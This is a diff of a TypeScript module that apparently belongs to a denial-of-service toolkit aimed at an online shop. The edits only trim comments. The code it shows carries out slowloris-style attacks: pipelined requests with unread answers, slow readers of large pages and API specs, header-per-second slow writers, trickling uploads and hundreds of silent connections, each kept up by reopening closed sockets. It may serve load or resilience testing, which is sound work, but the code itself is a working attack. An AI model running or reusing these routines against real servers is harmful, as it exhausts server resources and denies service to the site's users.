@@ -2,7 +2,6 @@ import { connect, type Socket } from 'node:net';
 import { setTimeout as delay } from 'node:timers/promises';
 import { OPENED, type Target } from './attack.ts';
 
-/** A connection that reports when it was closed by the shop, and is open as soon as it can be. */
 function open({ origin, address, note, signal }: Target): Socket {
   const { hostname, port } = new URL(origin);
   const socket = connect({ host: hostname, port: Number(port), localAddress: address });
@@ -15,7 +14,6 @@ function open({ origin, address, note, signal }: Target): Socket {
 
 const get = (target: Target, path: string): string => `GET ${path} HTTP/1.1\r\nHost: ${new URL(target.origin).host}\r\n\r\n`;
 
-/** Keeps so many connections open with `use`; opens another one for each that is closed. */
 async function keepOpen(target: Target, count: number, use: (socket: Socket) => void): Promise<void> {
   const sockets = new Set<Socket>();
   while (!target.signal.aborted) {
@@ -32,7 +30,7 @@ async function keepOpen(target: Target, count: number, use: (socket: Socket) => 
 const PIPELINED = 120_000;
 const AT_ONCE = 2000;
 
-/** Sends requests without reading an answer, on few connections. */
+/** Reads no answers. */
 export const pipelining = (target: Target): Promise<void> =>
   keepOpen(target, 4, (socket) => {
     const requests = get(target, '/').repeat(AT_ONCE);
@@ -47,7 +45,7 @@ export const pipelining = (target: Target): Promise<void> =>
     send();
   });
 
-/** Asks for pages and the largest files, and reads nothing of them. */
+/** Requests large answers and reads nothing. */
 export const slowReaders = (target: Target): Promise<void> => {
   const paths = ['/', '/products', '/api/catalog/products', '/openapi.json', '/api/openapi.json'];
   let n = 0;
@@ -57,7 +55,7 @@ export const slowReaders = (target: Target): Promise<void> => {
   });
 };
 
-/** Begins requests and sends a header every second. */
+/** One header per second. */
 export const slowWriters = (target: Target): Promise<void> =>
   keepOpen(target, 200, (socket) => {
     socket.resume();
@@ -66,10 +64,10 @@ export const slowWriters = (target: Target): Promise<void> =>
     socket.once('close', () => clearInterval(timer));
   });
 
-/** By then the other uploads have used their limit. */
+/** The other uploads have used up their limit by then. */
 const LATER_MS = 10_000;
 
-/** Uploads that send a few bytes a second. */
+/** A few bytes per second. */
 export async function slowUploads(target: Target): Promise<void> {
   await delay(LATER_MS);
   await keepOpen(target, 100, (socket) => {
@@ -83,5 +81,4 @@ export async function slowUploads(target: Target): Promise<void> {
   });
 }
 
-/** Opens connections and says nothing. */
 export const silentConnections = (target: Target): Promise<void> => keepOpen(target, 500, (socket) => void socket.resume());
